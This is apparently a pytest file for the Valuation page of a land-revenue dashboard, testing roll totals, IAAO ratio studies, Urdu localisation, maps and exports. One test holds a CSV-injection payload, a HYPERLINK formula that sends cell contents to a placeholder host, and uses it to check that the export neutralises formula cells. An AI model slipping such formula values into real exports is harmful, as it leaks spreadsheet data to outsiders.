"""The Valuation page (AppTest on a demo copy) and its pure helpers."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from datetime import date
from itertools import pairwise
from pathlib import Path
from typing import Any

import geopandas as gpd
import pytest
import shapely
from dashboard_support import database_url, demo_login, sign_in_demo
from i18n_support import ARABIC_SCRIPT as ARABIC
from i18n_support import LATIN, untranslated, visible_texts
from map_support import inline_files, layer_data  # noqa: F401  # inline_files: a fixture
from security_support import service_actor
from sqlalchemy import text
from sqlalchemy.engine import Engine
from streamlit.testing.v1 import AppTest

from app.shared import panels
from app.views.valuation import data as vd
from landgov.valuation.rates import load_dc_rates
from landgov.valuation.roll import run_roll
from landgov.valuation.transfer import under_declared

PointAt = Callable[[str], None]
ROLL_DATE = date(2026, 11, 15)


@pytest.fixture
def rolled(demo_copy: Engine, demo_dir: Path, point_app_at: PointAt) -> Engine:
    demo = service_actor(demo_copy, "demo")
    load_dc_rates(demo_copy, demo_dir / "dc_rates.csv", actor=demo)
    run_roll(demo_copy, ROLL_DATE, actor=service_actor(demo_copy, "valuation"))
    point_app_at(database_url(demo_copy))
    return demo_copy


def ok(at: AppTest) -> None:
    assert not at.exception, [e.value for e in at.exception]


def valuation_page(engine: Engine, demo_dir: Path) -> AppTest:
    """The Valuation page, signed in as the demo's revenue analyst."""
    at = sign_in_demo(engine, demo_login(engine, demo_dir, "revenue_analyst"), timeout=120)
    at.switch_page("views/valuation/view.py").run()
    ok(at)
    return at


def layer(at: AppTest, layer_id: str) -> dict[str, Any]:
    (spec,) = [json.loads(el.proto.json) for el in at.get("deck_gl_json_chart")]
    return next(x for x in spec["layers"] if x["id"] == layer_id)


def test_without_a_roll_the_page_says_how_to_run_one(
    demo_copy: Engine, demo_dir: Path, point_app_at: PointAt
) -> None:
    point_app_at(database_url(demo_copy))
    at = valuation_page(demo_copy, demo_dir)
    assert [el.value for el in at.title] == ["Valuation"]
    assert "landgov valuation run --as-of DATE" in at.info[0].value
    assert not at.get("deck_gl_json_chart")


@pytest.mark.usefixtures("inline_files")
def test_with_a_roll_the_page_shows_values_studies_and_under_declared_sales(
    rolled: Engine, demo_dir: Path
) -> None:
    at = valuation_page(rolled, demo_dir)
    mouza_id = at.sidebar.selectbox(key="mouza_id").value
    with rolled.connect() as conn:
        roll_id, total = conn.execute(
            text(
                "SELECT v.roll_id, sum(v.value_rs) FROM valuation_current v"
                " JOIN khasra k ON k.id = v.khasra_id WHERE k.mouza_id = :m GROUP BY v.roll_id"
            ),
            {"m": mouza_id},
        ).one()
        parts = conn.execute(
            text(
                "SELECT sum(ST_NumGeometries(k.geom)), count(*) FROM valuation_current v"
                " JOIN khasra k ON k.id = v.khasra_id WHERE k.mouza_id = :m"
            ),
            {"m": mouza_id},
        ).one()
        report = under_declared(conn, mouza_id, date.today())
    metrics = {m.label: m.value for m in at.metric}
    assert any(el.value.startswith(f"Roll {roll_id} (") for el in at.caption)
    assert metrics["Valued as of"] == ROLL_DATE.isoformat()
    # the headline is short enough to fit (crore/lakh), the exact figure in its tooltip
    assert metrics["Total value"] == vd.rupees_short(int(total))
    assert len(metrics["Total value"]) <= 16
    helps = {m.label: m.proto.help for m in at.metric}
    assert helps["Total value"] == f"Exactly {vd.rupees(int(total))}."
    assert metrics["Parcels valued"] == f"{parts[1]:,}"

    # the map first as a picture drawn on the server (no WebGL map); the switch above it
    # gives the interactive map, whose layer loads the rows from a file
    assert not at.get("deck_gl_json_chart") and len(at.get("image")) == 1
    at.toggle(key=f"{panels.INTERACTIVE_MAPS_KEY}_valuation").set_value(True).run()
    ok(at)
    assert not at.get("image")
    rows = layer_data(layer(at, vd.VALUE_LAYER_ID))  # a file the browser fetches
    assert len(rows) == parts[0]  # one polygon per (part of a) valued live parcel
    assert all(r["value_text"].startswith("Rs ") and len(r["fill_color"]) == 4 for r in rows)
    assert "Value per acre" in "".join(el.value for el in at.markdown)

    frames = [f.value for f in at.dataframe]
    values = next(f for f in frames if list(f.columns) == vd.VALUE_COLUMNS)
    assert len(values) == parts[1] and values["Value (Rs)"].sum() == total

    studies = [f for f in frames if list(f.columns) == vd.RATIO_COLUMNS]
    skipped = [c.value for c in at.caption if c.value.startswith("Not studied")]
    assert studies or skipped
    if studies:
        (study,) = studies
        assert {"Median ratio gate", "COD gate", "PRD gate", "PRB gate", "MKI gate"} <= set(
            study.columns
        )
        assert set(study[[c for c in study.columns if c.endswith("gate")]].stack()) <= {
            "pass",
            "FAIL",
        }
        assert (study["n"] >= vd.MIN_STRATUM).all()
        # each statistic explained in one line with its IAAO target, in sight
        (guide,) = [t.value for t in at.table]
        assert guide.index.tolist() == [label for _, label in vd.STATISTICS]
        targets = dict(zip(guide.index, guide["IAAO target"], strict=True))
        assert targets["PRD"] == "0.98 to 1.03" and targets["MKI"] == "0.95 to 1.05"
        assert targets["PRB"] == "−0.05 to 0.05" and targets["Median ratio"] == "0.90 to 1.10"
        assert "≤ 25 for farm and waste land" in targets["COD"]
        assert all(len(line) < 200 for line in guide["What it says"])

    if report.sales:
        under = next(f for f in frames if list(f.columns) == vd.UNDER_COLUMNS)
        assert under["Mutation"].tolist() == [str(s.number) for s in report.sales]
        assert under["Revenue at stake (Rs)"].sum() == report.revenue_at_stake_rs
        assert metrics["Revenue at stake"] == vd.rupees(report.revenue_at_stake_rs)
    else:
        assert any("is under-declared" in el.value for el in at.success)

    # an "as of" date before the roll: no roll in force then, and the page says so
    at.sidebar.date_input(key="as_of").set_value(date(2010, 1, 1)).run()
    ok(at)
    assert any(
        f"No roll is valued as of 2010-01-01 or earlier (the latest is valued as of "
        f"{ROLL_DATE.isoformat()})" in el.value
        for el in at.info
    )
    assert "Valued as of" not in {m.label for m in at.metric}
    assert any("up to 2010-01-01" in el.value for el in at.caption)  # the sales study too


def test_a_model_roll_explains_parcels_and_lists_sales_far_below_the_model(
    demo_copy: Engine, demo_dir: Path, point_app_at: PointAt
) -> None:
    load_dc_rates(demo_copy, demo_dir / "dc_rates.csv", actor=service_actor(demo_copy, "demo"))
    roll = run_roll(
        demo_copy, ROLL_DATE, method="model", actor=service_actor(demo_copy, "valuation")
    )
    point_app_at(database_url(demo_copy))
    at = valuation_page(demo_copy, demo_dir)
    mouza_id = at.sidebar.selectbox(key="mouza_id").value
    picker = at.selectbox(key="valuation_explain_khasra")
    # nothing selected elsewhere: no explanation until the officer picks a khasra
    assert picker.value is None and "Value in the roll" not in {m.label for m in at.metric}
    picker.set_value(picker.options[0]).run()
    ok(at)
    picker = at.selectbox(key="valuation_explain_khasra")
    with demo_copy.connect() as conn:
        kid = conn.execute(
            text("SELECT id FROM khasra WHERE mouza_id = :m AND number = :n"),
            {"m": mouza_id, "n": picker.value},
        ).scalar_one()
        stored = conn.execute(
            text("SELECT value_rs FROM valuation_roll_value WHERE roll_id = :r AND khasra_id = :k"),
            {"r": roll.id, "k": kid},
        ).scalar_one()
        report = under_declared(conn, mouza_id, date.today())
    metrics = {m.label: m.value for m in at.metric}
    assert metrics["Value in the roll"] == vd.rupees_short(stored)
    frames = [f.value for f in at.dataframe]
    explained = next(f for f in frames if list(f.columns) == vd.EXPLAIN_COLUMNS)
    assert "Distance to road (m)" in explained["Feature"].tolist()
    assert all(v.startswith("× ") for v in explained["Factor"])
    # the location factor names the mouza, not its id
    values = dict(zip(explained["Feature"], explained["Value"], strict=True))
    mouza_name = at.sidebar.selectbox(key="mouza_id").format_func(mouza_id).split(" (hadbast")[0]
    assert values["Mouza (location)"] == mouza_name
    assert values["Distance to road (m)"].endswith(" m")
    models = next(f for f in frames if list(f.columns) == vd.MODEL_COLUMNS)
    assert {"Nehri", "Chahi"} <= {str(c).split()[0] for c in models["Land class"]}
    assert set(models["IAAO gates"]) <= {"pass", "FAIL"}
    values = next(f for f in frames if list(f.columns) == vd.VALUE_COLUMNS)
    assert values["Valued by"].str.startswith("model ").any()
    if report.below_model:
        below = next(f for f in frames if list(f.columns) == vd.BELOW_MODEL_COLUMNS)
        assert below["Mutation"].tolist() == [str(b.tax.number) for b in report.below_model]
    else:
        assert any("of the model value" in el.value for el in at.success)

    # a khasra the model values, selected on the Parcels page: the panel opens on it
    from app.shared import selection

    other = picker.options[-1]
    with demo_copy.connect() as conn:
        other_id = conn.execute(
            text("SELECT id FROM khasra WHERE mouza_id = :m AND number = :n"),
            {"m": mouza_id, "n": other},
        ).scalar_one()
    picked = selection.SelectedKhasra(mouza_id, other_id, other)
    fresh = open_in(demo_copy, demo_dir, "en", **{selection.KEY: picked})
    assert fresh.selectbox(key="valuation_explain_khasra").value == other
    assert "Value in the roll" in {m.label for m in fresh.metric}


# --- pure helpers ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("rupees", "shown"),
    [
        (7_168_740_123, "Rs 716.9 crore"),
        (224_542_422_690, "Rs 22,454 crore"),
        (97_207_000, "Rs 9.72 crore"),
        (10_000_000, "Rs 1.00 crore"),
        (9_999_999, "Rs 100.00 lakh"),
        (503_228, "Rs 5.03 lakh"),
        (99_999, "Rs 99,999"),
        (0, "Rs 0"),
        (-1_250_000, "-Rs 12.50 lakh"),
    ],
)
def test_headline_sums_are_short_in_crore_and_lakh(rupees: int, shown: str) -> None:
    assert vd.rupees_short(rupees) == shown


def test_feature_values_read_as_an_officer_reads_them() -> None:
    names = {3: "Burj Karam Singh"}
    assert vd.feature_value("mouza", 3, names) == "Burj Karam Singh"
    assert vd.feature_value("mouza", 9, names) == "mouza 9"  # a mouza since removed
    assert vd.feature_value("road_m", 269.2833, names) == "269 m"
    assert vd.feature_value("acres", 1.0006, names) == "1.00 acres"
    assert vd.feature_value("compactness", 0.7821, names) == "0.78"
    assert vd.feature_value("crop", "fodder", names) == "fodder"
    assert vd.feature_value("ndvi_peak", None, names) == "unknown"
    ex = {"contributions": [{"feature": "mouza", "value": 3, "factor": 0.889}]}
    assert vd.explain_table(ex, names).to_dict("records") == [
        {"Feature": "Mouza (location)", "Value": "Burj Karam Singh", "Factor": "× 0.889",
         "Effect": "-11.1 %"}
    ]  # fmt: skip


def test_the_statistics_guide_gives_the_cod_limit_of_the_strata_studied() -> None:
    guide = vd.statistics_guide(["abadi"]).set_index("Statistic")
    assert guide.loc["COD", "IAAO target"] == "≤ 15 for abadi (residential)"
    both = vd.statistics_guide(["nehri", vd.MIXED]).set_index("Statistic")
    assert both.loc["COD", "IAAO target"] == (
        "≤ 20 for sales of mixed classes (other), ≤ 25 for farm and waste land (IAAO: vacant)"
    )
    assert vd.statistic_help("prb").endswith("IAAO target: −0.05 to 0.05.")


def test_ramp_runs_from_the_first_to_the_last_colour() -> None:
    assert vd.ramp_color(0.0) == vd.RAMP[0]
    assert vd.ramp_color(1.0) == vd.RAMP[-1]
    assert vd.ramp_color(-3) == vd.RAMP[0] and vd.ramp_color(7) == vd.RAMP[-1]
    assert vd.ramp_color(0.25) == vd.RAMP[1]
    assert vd.ramp_position(100, 10, 1000) == pytest.approx(0.5)  # log scale
    assert vd.ramp_position(0, 10, 1000) == 0.0
    stops = vd.legend_stops(10, 1000, n=3)
    assert [round(v) for v, _ in stops] == [10, 100, 1000]
    assert [c for _, c in stops] == [vd.RAMP[0], vd.RAMP[2], vd.RAMP[-1]]


def test_a_sale_over_several_classes_is_mixed() -> None:
    assert vd.stratum_of(["nehri", "nehri"]) == "nehri"
    assert vd.stratum_of(["nehri", "chahi"]) == vd.MIXED
    assert vd.property_class("abadi") == "residential"
    assert vd.property_class(vd.MIXED) == "other"
    assert vd.property_class("barani") == "vacant"


def test_ratio_table_studies_big_strata_and_lists_small_ones() -> None:
    sales = [
        vd.Sale(i, i, date(2025, 1, 1), "nehri", 600_000 + 7_000 * i, 1_000_000 + 9_000 * i)
        for i in range(12)
    ] + [vd.Sale(99, 99, date(2025, 1, 1), vd.MIXED, 500, 1000)]
    table, skipped = vd.ratio_table(sales, n_boot=50)
    assert list(table.columns) == vd.RATIO_COLUMNS
    assert table["Stratum"].tolist() == ["nehri"]
    assert table.loc[0, "n"] == 12
    assert table.loc[0, "Median ratio gate"] == "FAIL"  # DC values sit below the price
    assert skipped == ["mixed: 1 sale(s), too few (needs 5)"]


def _parcels() -> gpd.GeoDataFrame:
    return vd.with_per_acre(
        gpd.GeoDataFrame(
            {
                "khasra_id": [1, 2],
                "khasra_no": ["11", "12"],
                "land_class": ["nehri", "abadi"],
                "record_area_sarsai": [14_400, 1_440],  # 10 acres and 1 acre
                "unit_system": ["standard", "standard"],
                "value_rs": [2_000_000, 5_000_000],
                "rate_id": [3, 4],
                "model_id": [None, 5],
            },
            geometry=[
                shapely.box(74.30, 31.50, 74.301, 31.501),
                shapely.MultiPolygon(
                    [
                        shapely.box(74.302, 31.50, 74.303, 31.501),
                        shapely.box(74.304, 31.5, 74.305, 31.501),
                    ]
                ),
            ],
            crs="EPSG:4326",
        ).rename_geometry("geom")
    )


def test_map_rows_and_table_carry_the_values() -> None:
    gdf = _parcels()
    assert gdf["acres"].tolist() == pytest.approx([10.0, 1.0])
    rows = vd.map_rows(gdf)
    assert rows["khasra_no"].tolist() == ["11", "12", "12"]  # the multipolygon exploded
    assert rows.loc[0, "fill_color"] == list(vd.RAMP[0])  # cheapest per acre
    assert rows.loc[1, "fill_color"] == list(vd.RAMP[-1])
    assert rows.loc[0, "value_text"] == "Rs 2,000,000"
    table = vd.values_table(gdf)
    assert list(table.columns) == vd.VALUE_COLUMNS and table["Value (Rs)"].sum() == 7_000_000
    assert vd.csv_bytes(gdf).decode("utf-8-sig").splitlines()[0].startswith("Khasra,")
    assert table["Valued by"].tolist() == ["DC rate 3", "model 5"]


def test_the_csv_download_neutralises_formula_cells() -> None:
    """OWASP CSV injection: a khasra number a spreadsheet would run stays text."""
    import csv
    import io

    gdf = _parcels()
    gdf["khasra_no"] = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "-2+3"]
    rows = list(csv.reader(io.StringIO(vd.csv_bytes(gdf).decode("utf-8-sig"))))
    assert rows[0][0] == "Khasra"
    assert [r[0] for r in rows[1:]] == ["'" + gdf["khasra_no"].iloc[0], "'-2+3"]
    assert [r[4] for r in rows[1:]] == ["2000000", "5000000"]  # numbers stay numbers


def test_geopackage_reads_back_with_the_same_rows(tmp_path: Path) -> None:
    gdf = _parcels()
    blob = vd.geopackage_bytes(gdf, roll_id=7)
    path = tmp_path / "v.gpkg"
    path.write_bytes(blob)
    back = gpd.read_file(path, layer=vd.GPKG_LAYER)
    assert len(back) == len(gdf)
    assert back["value_rs"].tolist() == [2_000_000, 5_000_000]
    assert set(back["roll_id"]) == {7}
    assert back["model_id"].isna().tolist() == [True, False]
    assert back.crs.to_epsg() == 4326


# What the record holds in Latin letters only, shown as stored on an Urdu page: the demo
# account's own name and username (the sidebar's "signed in" line) and the district's name
RECORD_DATA_LATIN = ("Demo Revenue Analyst", "analyst", "Sheikhupura")


def open_in(engine: Engine, demo_dir: Path, lang: str, **state: Any) -> AppTest:
    """The Valuation page in ``lang`` (chosen in the address, as a link would)."""
    at = sign_in_demo(engine, demo_login(engine, demo_dir, "revenue_analyst"), timeout=120)
    at.query_params["lang"] = lang
    for key, value in state.items():
        at.session_state[key] = value
    at.switch_page("views/valuation/view.py").run()
    ok(at)
    return at


def without_record_data(texts: list[str]) -> list[str]:
    """``texts`` with the named record data removed, those still in Latin letters kept."""
    kept = []
    for shown in texts:
        for value in RECORD_DATA_LATIN:
            shown = shown.replace(value, "")
        if LATIN.search(shown):
            kept.append(shown)
    return kept


def test_the_page_in_urdu_and_in_english(
    demo_copy: Engine, demo_dir: Path, point_app_at: PointAt
) -> None:
    from app.shared import i18n

    load_dc_rates(demo_copy, demo_dir / "dc_rates.csv", actor=service_actor(demo_copy, "demo"))
    run_roll(demo_copy, ROLL_DATE, method="model", actor=service_actor(demo_copy, "valuation"))
    point_app_at(database_url(demo_copy))

    at = open_in(demo_copy, demo_dir, "ur")
    assert [t.value for t in at.title] == ["قیمت اراضی"]
    assert without_record_data(untranslated(at, "ur")) == []
    # what untranslated() does not read: metrics, their tooltips, the guide's st.table
    metrics = {m.label: (m.value, m.proto.help) for m in at.metric}
    assert all(not LATIN.search(" ".join((k, *v))) for k, v in metrics.items()), metrics
    total, exactly = metrics["کل قیمت"]
    assert total.endswith("کروڑ روپے") and not re.search("[0-9]", total)
    assert exactly.startswith("ٹھیک ") and exactly.endswith("روپے۔")
    assert metrics["قیمت کی تاریخ"][0] == "۱۵ نومبر، ۲۰۲۶"
    frames = [f.value for f in at.dataframe]
    heads = [list(f.columns) for f in frames]
    assert heads[0][:5] == ["خسرہ", "قسم زمین", "رقبہ (ک-م-س)", "رقبہ (ایکڑ)", "قیمت (روپے)"]
    assert vd.ratio_columns("ur") in heads and vd.ratio_columns("en") not in heads
    (guide,) = [t.value for t in at.table]
    assert guide.index.tolist() == [
        "درمیانی تناسب",
        "سی او ڈی",
        "پی آر ڈی",
        "پی آر بی",
        "ایم کے آئی",
    ]
    assert all(not LATIN.search(str(v)) for v in guide.to_numpy().ravel())
    study = next(f for f in frames if list(f.columns) == vd.ratio_columns("ur"))
    gates = [c for c in study.columns if c.endswith("معیار")]
    assert set(study[gates].stack()) <= {"پورا", "ناکام"}
    assert any("کم ظاہر" in h.value for h in at.header)
    shown = " ".join(visible_texts(at))
    assert "آئی اے اے او" in shown and "۳ × آئی کیو آر" in shown
    # record numbers keep reading left to right, in Urdu digits
    values = frames[0]
    assert all(k.startswith(i18n.LRI) and not re.search("[0-9]", k) for k in values["خسرہ"])

    at = open_in(demo_copy, demo_dir, "en")
    assert [t.value for t in at.title] == ["Valuation"]
    assert untranslated(at, "en") == []
    assert all(not ARABIC.search(f"{m.label} {m.value} {m.proto.help}") for m in at.metric)
    (guide,) = [t.value for t in at.table]
    assert not any(ARABIC.search(str(v)) for v in guide.to_numpy().ravel())


@pytest.mark.usefixtures("inline_files")
def test_the_map_outlines_the_khasra_selected_on_another_page(
    rolled: Engine, demo_dir: Path
) -> None:
    from app.shared import selection

    at = open_in(rolled, demo_dir, "en", **{panels.INTERACTIVE_MAPS_KEY: True})
    mouza_id = at.sidebar.selectbox(key="mouza_id").value
    assert vd.SELECTED_LAYER_ID not in {x["id"] for x in deck(at)["layers"]}  # none yet
    with rolled.connect() as conn:
        kid, number = conn.execute(
            text(
                "SELECT k.id, k.number FROM valuation_current v JOIN khasra k"
                " ON k.id = v.khasra_id WHERE k.mouza_id = :m ORDER BY k.id LIMIT 1"
            ),
            {"m": mouza_id},
        ).one()
    # as the Parcels page stores a pick
    at.session_state[selection.KEY] = selection.SelectedKhasra(mouza_id, int(kid), str(number))
    at.run()
    ok(at)
    outline = layer(at, vd.SELECTED_LAYER_ID)
    mine = [r for r in layer_data(layer(at, vd.VALUE_LAYER_ID)) if r["khasra_id"] == kid]
    assert mine and [(e["s"], e["t"]) for e in outline["data"]] == [
        (list(a), list(b)) for r in mine for ring in r["polygon"] for a, b in pairwise(ring)
    ]  # each edge of its rings, as straight segments
    assert outline["@@type"] == "LineLayer" and outline["getWidth"] >= 3
    assert any(f"khasra {number}" in c.value for c in at.caption)
    # drawn as a picture, the map says so too (the outline itself: test_picture_overlays)
    at.toggle(key=f"{panels.INTERACTIVE_MAPS_KEY}_valuation").set_value(False).run()
    ok(at)
    assert not at.get("deck_gl_json_chart") and len(at.get("image")) == 1
    assert any(f"khasra {number}" in c.value for c in at.caption)
    # a khasra of another mouza: no outline on this one
    at.session_state[selection.KEY] = selection.SelectedKhasra(mouza_id + 1, 10**9, "1")
    at.toggle(key=f"{panels.INTERACTIVE_MAPS_KEY}_valuation").set_value(True).run()
    ok(at)
    assert vd.SELECTED_LAYER_ID not in {x["id"] for x in deck(at)["layers"]}


def deck(at: AppTest) -> dict[str, Any]:
    (spec,) = [json.loads(el.proto.json) for el in at.get("deck_gl_json_chart")]
    return spec
